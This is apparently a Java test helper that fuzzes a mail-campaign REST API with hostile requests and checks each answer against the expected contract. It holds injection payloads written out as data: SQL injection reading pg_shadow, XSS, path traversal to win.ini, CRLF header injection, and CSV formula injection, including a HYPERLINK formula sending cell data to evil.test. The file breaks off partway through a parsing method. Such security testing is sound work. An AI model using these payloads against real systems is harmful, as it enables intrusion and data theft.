package org.mailpulse.reliability;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;
import java.util.regex.Pattern;

/**
 * Hostile REST requests against every endpoint family, each with the answer the contract asks for, and a small HTTP
 * client that sends them exactly as written (java.net.http for well-formed URIs, a raw socket for the rest).
 */
final class HostileRequests {

    /** The answer a request must get. */
    enum Expect {
        /** 4xx application/problem+json (a bad /api request) */
        PROBLEM,
        /** 2xx JSON: hostile but valid data, stored verbatim (the request's own check says how it came back) */
        ACCEPTED,
        /** 2xx JSON or 4xx problem+json: the contract leaves it open, but never 5xx */
        NO_5XX,
        /** 4xx text/html page of the public unsubscribe link, the request not echoed */
        PAGE,
        /** any 4xx, also from the HTTP layer before the application (path tricks without a token, oversize) */
        REFUSED
    }

    record Req(String family, String method, String path, String contentType, byte[] body, String authorization, Expect expect,
               Function<Res, String> check, boolean raw) {
        String describe() {
            String p = path.length() > 120 ? path.substring(0, 120) + "…(" + path.length() + ")" : path;
            return family + ": " + method + " " + p.replace("\r", "\\r").replace("\n", "\\n");
        }
    }

    record Res(int status, String contentType, Map<String, List<String>> headers, String body) {
        JsonNode json() {
            try {
                return JSON.readTree(body);
            } catch (IOException e) {
                return null;
            }
        }
    }

    static final ObjectMapper JSON = new ObjectMapper();
    static final String TOKEN = "Bearer test-token";
    private static final Pattern SES_NAME = Pattern.compile("[A-Za-z0-9_-]+");
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();

    /** Payloads for every parameter. */
    static final List<String> PAYLOADS;

    static {
        List<String> p = new ArrayList<>(HostileBodies.INJECTIONS);
        p.addAll(List.of("-1", "2147483648", "99999999999999999999999", "0x1F", "true", "1e309",
                "00000000-0000-0000-0000-00000000000g", "a".repeat(3000), "\u00ff\u00fe", "<img src=x onerror=alert(1)>",
                "admin'/*", "1 UNION SELECT password FROM pg_shadow", "{{#each}}", "\\u0000", "../", "..\\..\\windows\\win.ini"));
        PAYLOADS = List.copyOf(p);
    }

    /** Ids the generators need: things that exist. */
    record Fixture(String customerId, String templateId, String draftCampaignId, String expiredToken, String usedToken, String run) {
    }

    private final Fixture fx;
    private final Random random;
    private int serial;

    HostileRequests(Fixture fx, long seed) {
        this.fx = fx;
        this.random = new Random(seed);
    }

    // ------------------------------------------------------------------------------------------------ generation

    List<Req> generate(int count) {
        List<Req> all = new ArrayList<>(fixed());
        for (String p : PAYLOADS) {
            all.addAll(forPayload(p));
        }
        Collections.shuffle(all, random);
        while (all.size() < count) {
            String combined = PAYLOADS.get(random.nextInt(PAYLOADS.size())) + PAYLOADS.get(random.nextInt(PAYLOADS.size()));
            List<Req> more = forPayload(combined.length() > 3500 ? combined.substring(0, 3500) : combined);
            Collections.shuffle(more, random);
            all.addAll(more);
        }
        return all.size() > count && count >= fixed().size() ? keepFixedFirst(all, count) : all;
    }

    /** The fixed requests (path tricks, sizes, tokens) always run; payload requests fill up the count. */
    private List<Req> keepFixedFirst(List<Req> all, int count) {
        List<Req> kept = new ArrayList<>();
        for (Req r : all) {
            if (r.family().startsWith("fixed ")) {
                kept.add(r);
            }
        }
        for (Req r : all) {
            if (kept.size() >= count) {
                break;
            }
            if (!r.family().startsWith("fixed ")) {
                kept.add(r);
            }
        }
        Collections.shuffle(kept, random);
        return kept;
    }

    private static boolean hasLineBreak(String p) {
        return p.indexOf('\r') >= 0 || p.indexOf('\n') >= 0;
    }

    private static boolean isInteger(String p) {
        try {
            Integer.parseInt(p.trim());
            return true;
        } catch (NumberFormatException e) {
            return false;
        }
    }

    private List<Req> forPayload(String p) {
        String e = enc(p);
        List<Req> r = new ArrayList<>();
        boolean blank = p.isBlank();
        // customers
        r.add(get("customers by id", "/api/customers/" + e, Expect.PROBLEM));
        r.add(req("customer patch unknown id", "PATCH", "/api/customers/" + UUID.randomUUID(), "application/json",
                json(Map.of("name", "x")), Expect.PROBLEM));
        r.add(get("customer filters", "/api/customers?email=" + e + "&country=" + e + "&active=" + e, Expect.NO_5XX));
        if (p.contains("'") || p.contains("<") || p.contains(";")) {
            r.add(new Req("customer email filter (injection)", "GET", "/api/customers?email=" + e, null, null, TOKEN, Expect.ACCEPTED,
                    res -> res.json() != null && res.json().path("total").asLong(-1) == 0 ? null : "filter matched something: " + res.body(), false));
        }
        String email = "c" + (++serial) + "-" + fx.run() + "@hostile-rest.test";
        if (!blank && p.length() <= 200) {
            Expect expect = hasLineBreak(p) ? Expect.PROBLEM : Expect.ACCEPTED;
            r.add(new Req("customer create hostile name", "POST", "/api/customers", "application/json",
                    json(Map.of("email", email, "name", p, "company", p)), TOKEN, expect,
                    expect == Expect.ACCEPTED ? roundTrip("/api/customers/", "name", p) : null, false));
        }
        r.add(req("customer create hostile email", "POST", "/api/customers", "application/json",
                json(Map.of("email", p.replaceAll("\\s", "") .isEmpty() ? p : "a b" + p + "@x")), Expect.PROBLEM));
        r.add(req("customer create hostile country", "POST", "/api/customers", "application/json",
                json(Map.of("email", "k" + serial + "-" + fx.run() + "@hostile-rest.test", "country", p)),
                p.matches("[A-Za-z]{2}") ? Expect.ACCEPTED : Expect.PROBLEM));
        r.add(req("customer patch hostile", "PATCH", "/api/customers/" + fx.customerId(), "application/json",
                ("{\"email\":" + quote(p) + ",\"active\":[" + quote(p) + "]}").getBytes(StandardCharsets.UTF_8), Expect.PROBLEM));
        r.add(req("customer import hostile csv", "POST", "/api/customers/import", "text/csv",
                ("email,name,company,country\n" + csv("i" + serial + "-" + fx.run() + "@hostile-rest.test") + "," + csv(p) + "," + csv("=" + p)
                        + "," + csv(p) + "\n" + csv(p) + ",x,y,GB\n").getBytes(StandardCharsets.UTF_8), Expect.ACCEPTED));
        // templates
        r.add(get("template by id", "/api/templates/" + e, Expect.PROBLEM));
        if (!blank && p.length() <= 200) {
            r.add(new Req("template hostile name", "POST", "/api/templates", "application/json",
                    json(Map.of("name", p, "provider", "internal", "subject", "S", "textBody", "T " + p.replace("{", "(").replace("}", ")"))),
                    TOKEN, Expect.ACCEPTED, roundTrip("/api/templates/", "name", p), false));
        }
        r.add(req("template subject", "POST", "/api/templates", "application/json",
                json(Map.of("name", "t", "provider", "internal", "subject", "Hi " + p.replace("{", "(").replace("}", ")"), "textBody", "T")),
                hasLineBreak(p) || p.length() > 990 ? Expect.PROBLEM : Expect.ACCEPTED));
        r.add(req("template provider", "POST", "/api/templates", "application/json",
                json(Map.of("name", "t", "provider", p, "subject", "S", "textBody", "T")), Expect.PROBLEM));
        r.add(req("template ses name", "POST", "/api/templates", "application/json",
                json(Map.of("name", "t", "provider", "ses", "providerTemplateName", p)),
                SES_NAME.matcher(p).matches() && p.length() <= 64 ? Expect.ACCEPTED : Expect.PROBLEM));
        r.add(req("template broken mustache", "POST", "/api/templates", "application/json",
                json(Map.of("name", "t", "provider", "internal", "subject", "S", "htmlBody", "{{#open}}" + p)), Expect.PROBLEM));
        r.add(req("template week of month", "POST", "/api/templates", "application/json",
                ("{\"name\":\"t\",\"provider\":\"internal\",\"subject\":\"S\",\"textBody\":\"T\",\"weekOfMonth\":" + quote(p) + "}")
                        .getBytes(StandardCharsets.UTF_8), weekOfMonthExpect(p)));
        // campaigns
        r.add(get("campaign by id", "/api/campaigns/" + e, Expect.PROBLEM));
        r.add(get("campaign stats", "/api/campaigns/" + e + "/stats", Expect.PROBLEM));
        r.add(req("campaign action", "POST", "/api/campaigns/" + e + "/" + List.of("queue", "pause", "resume").get(random.nextInt(3)), null,
                null, Expect.PROBLEM));
        r.add(get("campaign live unknown", "/api/campaigns/" + e + "/live", Expect.PROBLEM));
        r.add(get("campaigns by status", "/api/campaigns?status=" + e, blank ? Expect.ACCEPTED : Expect.PROBLEM));
        r.add(get("recipients by status", "/api/campaigns/" + fx.draftCampaignId() + "/recipients?status=" + e,
                blank ? Expect.ACCEPTED : Expect.PROBLEM));
        r.add(req("campaign template id", "POST", "/api/campaigns", "application/json",
                json(Map.of("name", "c", "templateId", p)), Expect.PROBLEM));
        r.add(req("campaign scheduledAt", "POST", "/api/campaigns", "application/json",
                json(Map.of("name", "c", "templateId", fx.templateId(), "scheduledAt", p)),
                p.trim().matches("-?[0-9.eE+]+") ? Expect.NO_5XX : Expect.PROBLEM)); // Jackson reads a number as epoch seconds
        if (!blank && p.length() <= 200) {
            r.add(new Req("campaign hostile name", "POST", "/api/campaigns", "application/json",
                    json(Map.of("name", p, "templateId", fx.templateId())), TOKEN, Expect.ACCEPTED, roundTrip("/api/campaigns/", "name", p), false));
        }
        // an address over 254 characters fails validation; any other bad address is a rejected line of a 200 report
        boolean tooLong = p.length() > 254;
        r.add(new Req("enrol hostile email", "POST", "/api/campaigns/" + fx.draftCampaignId() + "/recipients", "application/json",
                json(Map.of("recipients", List.of(Map.of("email", blank ? "x" : p, "data", Map.of("name", p))))), TOKEN,
                tooLong ? Expect.PROBLEM : Expect.ACCEPTED,
                tooLong ? null : res -> res.json() != null && res.json().path("rejectedCount").asLong() == 1 && res.json().path("enrolled").asLong() == 0
                        ? null : "not rejected: " + res.body(), false));
        String enrolled = "e" + (++serial) + "-" + fx.run() + "@hostile-rest.test";
        r.add(new Req("enrol hostile data", "POST", "/api/campaigns/" + fx.draftCampaignId() + "/recipients", "application/json",
                json(Map.of("recipients", List.of(Map.of("email", enrolled, "data", Map.of("name", p, p.isEmpty() ? "k" : p, List.of(p, 1, true)))))),
                TOKEN, Expect.ACCEPTED, res -> res.json() != null && res.json().path("enrolled").asLong() == 1 ? null : "not enrolled: " + res.body(),
                false));
        String csvEnrolled = "f" + (++serial) + "-" + fx.run() + "@hostile-rest.test";
        r.add(new Req("enrol csv formula and hostile cells", "POST", "/api/campaigns/" + fx.draftCampaignId() + "/recipients", "text/csv",
                ("email,name,company,formula\n" + csvEnrolled + "," + csv(p) + "," + csv("=cmd|' /C calc'!A0") + "," + csv("=HYPERLINK(\"http://evil.test?\"&A1,\"" + p + "\")")
                        + "\n").getBytes(StandardCharsets.UTF_8), TOKEN, Expect.ACCEPTED,
                res -> res.json() != null && res.json().path("enrolled").asLong() == 1 ? null : "not enrolled: " + res.body(), false));
        r.add(req("enrol csv unknown campaign", "POST", "/api/campaigns/" + e + "/recipients", "text/csv",
                "email\na@b.test\n".getBytes(StandardCharsets.UTF_8), Expect.PROBLEM));
        // suppressions
        r.add(get("suppressions by reason", "/api/suppressions?reason=" + e, blank ? Expect.ACCEPTED : Expect.PROBLEM));
        r.add(get("suppression lookup", "/api/suppressions/" + e, Expect.PROBLEM));
        r.add(req("suppression lift", "DELETE", "/api/suppressions/" + e, null, null, Expect.PROBLEM));
        r.add(req("suppression put hostile address", "PUT", "/api/suppressions/" + enc("a b" + p), "application/json",
                json(Map.of()), Expect.PROBLEM));
        r.add(req("suppression put hostile reason", "PUT", "/api/suppressions/s" + (++serial) + "-" + fx.run() + "@hostile-rest.test",
                "application/json", json(Map.of("reason", p)), Expect.PROBLEM));
        if (p.length() <= 1000) {
            String address = "s" + (++serial) + "-" + fx.run() + "@hostile-rest.test";
            r.add(new Req("suppression put hostile detail", "PUT", "/api/suppressions/" + address, "application/json",
                    json(Map.of("detail", p)), TOKEN, Expect.ACCEPTED, roundTrip("/api/suppressions/", "detail", p, address), false));
        }
        // reports, messages, quarantine
        if (!blank) {
            r.add(get("daily report from", "/api/reports/daily?from=" + e, Expect.PROBLEM));
            r.add(get("daily report campaign", "/api/reports/daily?campaignId=" + e, Expect.PROBLEM));
            r.add(get("domain report to", "/api/reports/domains?to=" + e, Expect.PROBLEM));
            r.add(get("message report type", "/api/reports/messages?reportType=" + e, isInteger(p) ? Expect.ACCEPTED : Expect.PROBLEM));
            r.add(get("message report event type", "/api/reports/messages?eventType=" + e, Expect.PROBLEM));
            r.add(req("rollup day", "POST", "/api/reports/rollups/" + e, null, null, Expect.PROBLEM));
        }
        // the hostile SQS bodies put these very strings into user_id headers: a match is legitimate, an error is not
        r.add(get("message report user", "/api/reports/messages?userId=" + e, Expect.ACCEPTED));
        r.add(get("message by id", "/api/messages/" + e, Expect.PROBLEM));
        String list = List.of("/api/customers", "/api/templates", "/api/campaigns", "/api/suppressions", "/api/ingest/quarantine",
                "/api/reports/daily", "/api/reports/domains", "/api/reports/messages").get(random.nextInt(8));
        r.add(get("paging", list + "?page=" + e + "&size=" + e, pagingExpect(p)));
        // authentication
        String header = p.replaceAll("[^\\x20-\\x7e]", "?"); // java.net.http sends visible ASCII only
        r.add(new Req("hostile bearer token", "GET", list, null, null, "Bearer " + header, Expect.PROBLEM, unauthorized(), false));
        r.add(new Req("hostile auth scheme", "GET", "/api/customers/" + fx.customerId(), null, null, header.isBlank() ? "x" : header,
                Expect.PROBLEM, unauthorized(), false));
        // public unsubscribe link
        r.add(new Req("unsubscribe page garbage token", "GET", "/unsubscribe/" + e, null, null, null, Expect.PAGE, notEchoed(p), false));
        r.add(new Req("unsubscribe post garbage token", "POST", "/unsubscribe/" + e, "application/x-www-form-urlencoded",
                ("List-Unsubscribe=One-Click&x=" + e).getBytes(StandardCharsets.UTF_8), null, Expect.PAGE, notEchoed(p), false));
        return r;
    }

    private static Expect weekOfMonthExpect(String p) {
        if (p.trim().equals("null")) {
            return Expect.ACCEPTED; // Jackson reads the JSON string "null" as null for a number: no week of month
        }
        try {
            int n = Integer.parseInt(p.trim());
            return n >= 1 && n <= 4 ? Expect.ACCEPTED : Expect.PROBLEM;
        } catch (NumberFormatException e) {
            return Expect.PROBLEM;
        }
    }

    private static Expect pagingExpect(String p) {
        if (p.isBlank()) {
            return Expect.NO_5XX;
        }
        try {
            long n = Long.parseLong(p.trim());
            return n >= 1 && n <= 500 ? Expect.ACCEPTED : Expect.PROBLEM;
        } catch (NumberFormatException e) {
            return Expect.PROBLEM;
        }
    }

    /** Path tricks, sizes, forged and expired tokens, wrong methods and media types. */
    private List<Req> fixed() {
        List<Req> r = new ArrayList<>();
        String[] tricks = {"/api/customers/..%2f..%2fq%2fhealth", "/api/customers/%2e%2e/%2e%2e/q/health", "/api/%2e%2e/q/metrics",
                "//api/customers", "/api//customers", "/api/customers/%00", "/api/customers/%252e%252e%252f", "/API/customers",
                "/api/customers;jsessionid=x", "/%61pi/customers", "/api/./customers", "/api/customers/../customers",
                "/unsubscribe/..%2f..%2fapi%2fcustomers", "/unsubscribe/%2e%2e/%2e%2e/api/customers", "/q/../api/customers",
                "/api/customers/%0d%0aX-Injected:%20yes", "/api/customers/%ff%fe", "/api/customers/" + "a".repeat(3000),
                "/api/customers?" + "x=1&".repeat(800), "/api/ingest/quarantine/..;/..;/customers", "/q/health/../../api/customers",
                "/api/customers%00", "/api/customers%2f", "/api%2fcustomers", "/unsubscribe/x/..%2f..%2f..%2fapi/customers"};
        for (String t : tricks) {
            // without a token nothing under /api may answer with data, whatever the path looks like
            // (a trick may land on a public /q/* endpoint, which is fine)
            r.add(new Req("fixed path trick without token", "GET", t, null, null, null, Expect.NO_5XX, noApiData(), false));
            r.add(new Req("fixed path trick with token", "GET", t, null, null, TOKEN, Expect.NO_5XX, null, false));
        }
        for (String t : new String[]{"/api/customers/%zz", "/api/customers/a b", "/api/customers/\u00e9", "/api/customers/%",
                "/api/customers/\\..\\..\\", "/api/customers/\u0001"}) {
            r.add(new Req("fixed raw path", "GET", t, null, null, TOKEN, Expect.REFUSED, null, true));
            r.add(new Req("fixed raw path without token", "GET", t, null, null, null, Expect.REFUSED, noApiData(), true));
        }
        r.add(new Req("fixed very long path", "GET", "/api/messages/" + "b".repeat(9000), null, null, TOKEN, Expect.REFUSED, null, false));
        r.add(new Req("fixed very long query", "GET", "/api/customers?email=" + "c".repeat(9000), null, null, TOKEN, Expect.REFUSED, null, false));
        // sizes
        r.add(new Req("fixed oversized declared csv import", "POST", "/api/customers/import", "text/csv", new byte[21_000_000], TOKEN,
                Expect.PROBLEM, status(413), true));
        r.add(new Req("fixed oversized declared enrolment", "POST", "/api/campaigns/" + fx.draftCampaignId() + "/recipients", "text/csv",
                new byte[21_000_000], TOKEN, Expect.PROBLEM, status(413), true));
        StringBuilder big = new StringBuilder("email,name,company,country\n");
        for (int i = 0; big.length() < 3_000_000; i++) {
            big.append("=cmd|' /C calc'!A").append(i).append(",\"=1+2\",@SUM(1),+").append(i).append('\n');
        }
        r.add(new Req("fixed 3 MB csv of formula rows", "POST", "/api/customers/import", "text/csv", big.toString().getBytes(StandardCharsets.UTF_8),
                TOKEN, Expect.ACCEPTED, res -> res.json() != null && res.json().path("created").asLong() == 0
                && res.json().path("rejectedCount").asLong() > 50_000 ? null : "formula rows not all rejected", false));
        List<Map<String, Object>> many = new ArrayList<>();
        for (int i = 0; i < 10_001; i++) {
            many.add(Map.of("email", "m" + i + "@hostile-rest.test"));
        }
        r.add(req("fixed 10001 recipients", "POST", "/api/campaigns/" + fx.draftCampaignId() + "/recipients", "application/json",
                json(Map.of("recipients", many)), Expect.PROBLEM));
        r.add(req("fixed name over 200", "POST", "/api/customers", "application/json",
                json(Map.of("email", "long-" + fx.run() + "@hostile-rest.test", "name", "n".repeat(201))), Expect.PROBLEM));
        r.add(req("fixed 2 MB template name", "POST", "/api/templates", "application/json",
                json(Map.of("name", "n".repeat(2_000_000), "provider", "internal", "subject", "s", "textBody", "t")), Expect.PROBLEM));
        // broken bodies on every JSON endpoint
        String deep = "[".repeat(5000) + "]".repeat(5000);
        for (String path : List.of("/api/customers", "/api/templates", "/api/campaigns", "/api/campaigns/" + fx.draftCampaignId() + "/recipients",
                "/api/suppressions/b-" + fx.run() + "@hostile-rest.test")) {
            String method = path.startsWith("/api/suppressions") ? "PUT" : "POST";
            for (String body : List.of("{", "[]", "nul", "{\"a\":}", "\"text\"", "42", deep, "{\"name\":" + deep + "}", "\uFEFF{}",
                    "{/*c*/}", "{'name':'x'}", "{\"name\":{\"$gt\":\"\"}}", "{\"email\":[\"a@b.c\"],\"name\":{}}")) {
                // the suppression body is optional, so the contract leaves some of these open
                Expect expect = path.startsWith("/api/suppressions") ? Expect.NO_5XX : Expect.PROBLEM;
                r.add(req("fixed broken json body", method, path, "application/json", body.getBytes(StandardCharsets.UTF_8), expect));
            }
            r.add(req("fixed null json body", method, path, "application/json", "null".getBytes(StandardCharsets.UTF_8),
                    path.startsWith("/api/suppressions") ? Expect.NO_5XX : Expect.PROBLEM));
            r.add(req("fixed invalid utf-8 json", method, path, "application/json",
                    new byte[]{'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'}, Expect.NO_5XX));
            r.add(req("fixed wrong media type", method, path, "application/xml", "<a/>".getBytes(StandardCharsets.UTF_8), Expect.PROBLEM));
            r.add(req("fixed text/plain json", method, path, "text/plain", "{}".getBytes(StandardCharsets.UTF_8), Expect.PROBLEM));
        }
        for (String list : List.of("/api/customers", "/api/templates", "/api/campaigns", "/api/suppressions", "/api/ingest/quarantine",
                "/api/reports/daily", "/api/reports/domains", "/api/reports/messages", "/api/campaigns/" + fx.draftCampaignId() + "/recipients")) {
            for (String page : List.of("?page=2147483647&size=500", "?page=4294968&size=500", "?page=0&size=2147483647", "?page=-2147483648")) {
                r.add(get("fixed paging overflow", list + page, Expect.NO_5XX));
            }
        }
        for (String dates : List.of("from=0001-01-01&to=9999-12-31", "from=%2B999999999-01-01&to=%2B999999999-12-31",
                "from=-999999999-01-01", "to=%2B999999999-12-31", "from=2026-02-30", "from=2026-01-01T00:00:00Z")) {
            for (String report : List.of("/api/reports/daily?", "/api/reports/domains?", "/api/reports/messages?")) {
                r.add(get("fixed extreme dates", report + dates, Expect.NO_5XX));
            }
        }
        r.add(req("fixed rollup of a far day", "POST", "/api/reports/rollups/-999999999-01-01", null, null, Expect.NO_5XX));
        r.add(req("fixed U+0000 in placeholder data", "POST", "/api/campaigns/" + fx.draftCampaignId() + "/recipients", "application/json",
                json(Map.of("recipients", List.of(Map.of("email", "nul-" + fx.run() + "@hostile-rest.test", "data", Map.of("name", "a\u0000b"))))),
                Expect.NO_5XX));
        r.add(req("fixed U+0000 in a customer name", "POST", "/api/customers", "application/json",
                json(Map.of("email", "nul-" + fx.run() + "@hostile-rest.test", "name", "a\u0000b")), Expect.NO_5XX));
        r.add(req("fixed U+0000 in a template", "POST", "/api/templates", "application/json",
                json(Map.of("name", "a\u0000b", "provider", "internal", "subject", "s\u0000", "textBody", "t")), Expect.NO_5XX));
        r.add(req("fixed U+0000 in a suppression detail", "PUT", "/api/suppressions/nul-" + fx.run() + "@hostile-rest.test", "application/json",
                json(Map.of("detail", "a\u0000b")), Expect.NO_5XX));
        r.add(req("fixed scheduledAt beyond PostgreSQL", "POST", "/api/campaigns", "application/json",
                json(Map.of("name", "far", "templateId", fx.templateId(), "scheduledAt", "+999999999-12-31T23:59:59Z")), Expect.NO_5XX));
        // csv uploads that are not csv
        for (String path : List.of("/api/customers/import", "/api/campaigns/" + fx.draftCampaignId() + "/recipients")) {
            r.add(req("fixed empty csv", "POST", path, "text/csv", new byte[0], Expect.PROBLEM));
            r.add(req("fixed csv without email column", "POST", path, "text/csv", "name,company\nx,y\n".getBytes(StandardCharsets.UTF_8), Expect.PROBLEM));
            r.add(req("fixed csv unterminated quote", "POST", path, "text/csv", "email,name\na@b.test,\"open".getBytes(StandardCharsets.UTF_8), Expect.NO_5XX));
            r.add(req("fixed csv invalid utf-8", "POST", path, "text/csv",
                    new byte[]{'e', 'm', 'a', 'i', 'l', ',', 'n', '\n', 'a', '@', 'b', '.', 't', ',', (byte) 0xC3, (byte) 0x28, (byte) 0xFE, '\n'}, Expect.NO_5XX));
            r.add(req("fixed csv invalid utf-8 header", "POST", path, "text/csv",
                    new byte[]{(byte) 0xFF, (byte) 0xFE, 0, 'e', (byte) 0x80, '\n', 'x', '\n'}, Expect.NO_5XX));
            r.add(req("fixed binary csv", "POST", path, "text/csv", randomBytes(4096), Expect.NO_5XX));
            r.add(req("fixed csv 5000 columns", "POST", path, "text/csv",
                    ("email," + "c,".repeat(5000) + "\na@hostile-rest.test," + "=1+1,".repeat(5000) + "\n").getBytes(StandardCharsets.UTF_8), Expect.NO_5XX));
        }
        // tokens of the unsubscribe link: forged, expired, used
        for (int i = 0; i < 20; i++) {
            String forged = forgedToken();
            r.add(new Req("fixed forged unsubscribe token", i % 2 == 0 ? "GET" : "POST", "/unsubscribe/" + forged,
                    "application/x-www-form-urlencoded", "List-Unsubscribe=One-Click".getBytes(StandardCharsets.UTF_8), null, Expect.PAGE, status(404), false));
        }
        for (String method : List.of("GET", "POST", "GET", "POST")) {
            r.add(new Req("fixed expired unsubscribe token", method, "/unsubscribe/" + fx.expiredToken(), "application/x-www-form-urlencoded",
                    "List-Unsubscribe=One-Click".getBytes(StandardCharsets.UTF_8), null, Expect.PAGE, status(410), false));
        }
        r.add(new Req("fixed expired token with suffix", "GET", "/unsubscribe/" + fx.expiredToken() + "x", null, null, null, Expect.PAGE, status(404), false));
        r.add(new Req("fixed expired token truncated", "GET", "/unsubscribe/" + fx.expiredToken().substring(1), null, null, null, Expect.PAGE, status(404), false));
        r.add(new Req("fixed unsubscribe huge body", "POST", "/unsubscribe/" + forgedToken(), "text/plain", new byte[5_000_000], null, Expect.PAGE, null, false));
        // methods the API does not have
        r.add(req("fixed PUT on a collection", "PUT", "/api/customers", "application/json", "{}".getBytes(StandardCharsets.UTF_8), Expect.PROBLEM));
        r.add(req("fixed DELETE on templates", "DELETE", "/api/templates/" + fx.templateId(), null, null, Expect.PROBLEM));
        r.add(req("fixed PATCH on campaigns", "PATCH", "/api/campaigns/" + fx.draftCampaignId(), "application/json", "{}".getBytes(StandardCharsets.UTF_8), Expect.PROBLEM));
        r.add(new Req("fixed DELETE on unsubscribe", "DELETE", "/unsubscribe/" + forgedToken(), null, null, null, Expect.REFUSED, null, false));
        r.add(new Req("fixed TRACE", "TRACE", "/api/customers", null, null, TOKEN, Expect.REFUSED, null, true));
        return r;
    }

    // ------------------------------------------------------------------------------------------------ building

    private Req get(String family, String path, Expect expect) {
        return new Req(family, "GET", path, null, null, TOKEN, expect, null, false);
    }

    private Req req(String family, String method, String path, String contentType, byte[] body, Expect expect) {
        return new Req(family, method, path, contentType, body, TOKEN, expect, null, false);
    }

    static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static byte[] json(Object value) {
        try {
            return JSON.writeValueAsBytes(value);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String quote(String s) {
        return new String(json(s), StandardCharsets.UTF_8);
    }

    private static String csv(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }

    private byte[] randomBytes(int n) {
        byte[] b = new byte[n];
        random.nextBytes(b);
        return b;
    }

    private String forgedToken() {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        StringBuilder t = new StringBuilder();
        for (int i = 0; i < 43; i++) {
            t.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return t.toString();
    }

    /** The created resource read back by its id has the field exactly as sent. */
    private static Function<Res, String> roundTrip(String base, String field, String expected) {
        return res -> {
            JsonNode created = res.json();
            if (created == null) {
                return "answer is not JSON";
            }
            if (!expected.equals(created.path(field).asText(null))) {
                return field + " not stored verbatim: " + created.path(field);
            }
            return null;
        };
    }

    private static Function<Res, String> roundTrip(String base, String field, String expected, String id) {
        return roundTrip(base, field, expected);
    }

    private static Function<Res, String> unauthorized() {
        return res -> res.status() == 401 ? null : "expected 401, got " + res.status();
    }

    private static Function<Res, String> status(int expected) {
        return res -> res.status() == expected ? null : "expected " + expected + ", got " + res.status();
    }

    private static Function<Res, String> notEchoed(String payload) {
        return res -> payload.length() >= 4 && !payload.isBlank() && res.body().contains(payload) && !"Unsubscribe".contains(payload)
                ? "the page echoes the request" : null;
    }

    /** Without a token no answer may carry API data (a list envelope or a customer). */
    private static Function<Res, String> noApiData() {
        return res -> res.status() / 100 == 2 && (res.body().contains("\"items\"") || res.body().contains("\"email\""))
                ? "API data without a token: " + res.status() : null;
    }

    // ------------------------------------------------------------------------------------------------ sending

    static Res send(String baseUrl, Req r) throws IOException, InterruptedException {
        if (r.raw()) {
            return sendRaw(baseUrl, r);
        }
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(baseUrl + r.path())).timeout(Duration.ofSeconds(60));
        if (r.authorization() != null) {
            b.header("Authorization", r.authorization());
        }
        if (r.contentType() != null) {
            b.header("Content-Type", r.contentType());
        }
        b.method(r.method(), r.body() == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(r.body()));
        HttpResponse<byte[]> response;
        try {
            response = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
        } catch (IOException stale) {
            // The server closes a connection after some refusals (an oversized body); the client's pool may hand that
            // closed connection to the next request, which then sees no bytes. Once more, on a fresh connection.
            if (!String.valueOf(stale.getMessage()).contains("received no bytes")) {
                throw stale;
            }
            response = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(Duration.ofSeconds(5)).build()
                    .send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
        }
        return new Res(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""), response.headers().map(),
                new String(response.body(), StandardCharsets.UTF_8));
    }

    /**
     * Exactly the bytes written: a request line the URI class would refuse, or a declared Content-Length larger than
     * what follows (the server must answer from the headers alone).
     */
    static Res sendRaw(String baseUrl, Req r) throws IOException {
        URI base = URI.create(baseUrl);
        try (Socket socket = new Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(30_000);
            StringBuilder head = new StringBuilder();
            head.append(r.method()).append(' ').append(r.path()).append(" HTTP/1.1\r\n");
            head.append("Host: ").append(base.getHost()).append(':').append(base.getPort()).append("\r\n");
            head.append("Connection: close\r\n");
            if (r.authorization() != null) {
                head.append("Authorization: ").append(r.authorization()).append("\r\n");
            }
            if (r.contentType() != null) {
                head.append("Content-Type: ").append(r.contentType()).append("\r\n");
            }
            int sent = 0;
            if (r.body() != null) {
                head.append("Content-Length: ").append(r.body().length).append("\r\n");
                sent = Math.min(r.body().length, 65_536);
            }
            head.append("\r\n");
            OutputStream out = socket.getOutputStream();
            out.write(head.toString().getBytes(StandardCharsets.UTF_8));
            if (sent > 0) {
                out.write(r.body(), 0, sent);
            }
            out.flush();
            return parse(socket.getInputStream());
        }
    }

    private static Res parse(InputStream in) throws IOException {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        byte[] buffer = new byte[8192];
        try {
            for (int n; (n = in.read(buffer)) > 0; ) {
                all.write(buffer, 0, n);
            }
        } catch (java.net.SocketException | java.net.SocketTimeoutException e) {
            // the server may reset after answering a request whose body it will not read
        }
        String text = all.toString(StandardCharsets.ISO_8859_1);
        int end = text.indexOf("\r\n\r\n");
        if (end < 0) {
            throw new IOException("no HTTP response: " + text);
        }
        String[] lines = text.substring(0, end).split("\r\n");
        int status = Integer.parseInt(lines[0].split(" ")[1]);
        Map<String, List<String>> headers = new LinkedHashMap<>();
        for (int i = 1; i < lines.length; i++) {
            int colon = lines[i].indexOf(':');
